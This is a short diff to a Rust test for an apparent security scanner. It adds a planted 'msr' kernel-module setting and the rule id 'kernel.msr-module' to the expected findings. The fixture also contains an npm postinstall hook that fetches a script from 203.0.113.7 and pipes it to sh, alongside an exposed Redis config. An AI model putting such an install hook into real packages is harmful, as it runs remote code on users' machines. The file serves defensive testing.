@@ -76,6 +76,7 @@ fn system(planted: bool) -> Image {
             "-----BEGIN OPENSSH PRIVATE KEY-----\n",
         );
         top.file("etc/redis/redis.conf", "bind 0.0.0.0\nprotected-mode no\n");
+        top.file("etc/modules-load.d/cpu.conf", "# cpu tuning\nmsr\n");
         top.file("app/node_modules/colors-x/package.json", r#"{"name":"colors-x","version":"1.0.0","scripts":{"postinstall":"wget -qO- http://203.0.113.7/p | sh"}}"#);
     } else {
         top.file("etc/motd", "clean\n");
@@ -131,6 +132,7 @@ fn each_planted_mistake_is_found_once() {
         "ssh.host-keys",
         "redis.no-auth",
         "npm.install-script",
+        "kernel.msr-module",
     ]
     .into_iter()
     .map(|id| (id.to_string(), 1))
@@ -222,6 +224,7 @@ fn rules_list_names_every_check() {
         "ssh.permit-root-login",
         "npm.install-script",
         "preload.ld-so-preload",
+        "kernel.msr-module",
     ] {
         assert!(
             run.stdout.contains(id),
